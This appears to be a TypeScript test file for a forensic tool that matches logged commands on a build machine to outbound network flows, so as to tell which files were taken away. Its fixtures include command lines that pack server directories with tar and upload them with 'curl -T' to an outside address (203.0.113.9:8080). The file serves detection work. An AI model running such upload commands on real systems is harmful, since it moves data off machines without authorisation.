import { expect, test } from 'vitest';
import { actGroup } from '../../../test/act-group-fixture.ts';
import { uploadActs } from '../commands/upload-acts.ts';
import type { MachineFacts } from './machine-facts.ts';
import { takenAway } from './taken-away.ts';

const ran = (time: string, command: string, ref = time) =>
  actGroup({ verb: 'execute', host: 'build-1', command, time, last: time, citations: [{ ref, time }] });
const home = 'http://203.0.113.9:8080/u';
const flows = {
  address: '203.0.113.9',
  port: '8080',
  bytes: 5_000,
  flows: 2,
  first: '2026-03-04T10:00:10Z',
  last: '2026-03-04T10:03:00Z',
  isInside: false,
  isKnown: false,
  citations: [],
};
const facts = [
  { machine: { name: 'build-1', names: ['build-1'], short: 'build-1' }, sent: { destinations: [flows] } },
] as unknown as readonly MachineFacts[];

test('what two logs tell of one command is told once, with the last that packed the file', () => {
  const acts = [
    ran('2026-03-04T09:00:00Z', 'tar cf /tmp/a.tar /srv/old'),
    ran('2026-03-04T09:30:00Z', 'tar cf /tmp/a.tar /srv/new'),
    ran('2026-03-04T10:00:00Z', `curl -T /tmp/a.tar ${home}`, 'first'),
    ran('2026-03-04T10:00:00Z', `sudo curl -T /tmp/a.tar ${home}`, 'second'),
    ran('2026-03-04T11:00:00Z', 'tar cf /tmp/a.tar /srv/later'),
  ];

  const [only, ...more] = takenAway(uploadActs(acts), facts);

  expect(more).toEqual([]);
  expect(only).toMatchObject({ machine: 'build-1', bytes: 5_000, citations: [{ ref: 'first' }, { ref: 'second' }] });
  expect(only?.packed.map(({ packing }) => packing.of)).toEqual([['/srv/new']]);
});

test('of what went to one place by two commands nobody can say how much was whose', () => {
  const acts = ['/tmp/a', '/tmp/b'].map((file) => ran('2026-03-04T10:00:00Z', `curl -T ${file} ${home}`));

  expect(takenAway(uploadActs(acts), facts)).toMatchObject([
    { bytes: null, flows, isSince: true },
    { bytes: null, flows, isSince: true },
  ]);
});

test('traffic from before the command is not its own, and what stays inside is not taken away', () => {
  const acts = [
    ran('2026-03-04T12:00:00Z', `curl -T /tmp/a ${home}`),
    ran('2026-03-04T12:00:00Z', 'scp /tmp/a root@10.0.0.7:/srv/in/'),
  ];

  expect(takenAway(uploadActs(acts), facts)).toMatchObject([{ bytes: null, isSince: false }]);
});

test('of twenty thousand uploads each is told', () => {
  const acts = Array.from({ length: 20_000 }, (_, number) =>
    ran('2026-03-04T10:00:00Z', `curl -T /tmp/f${number} ${home}`),
  );

  expect(uploadActs(acts)).toHaveLength(20_000);
});
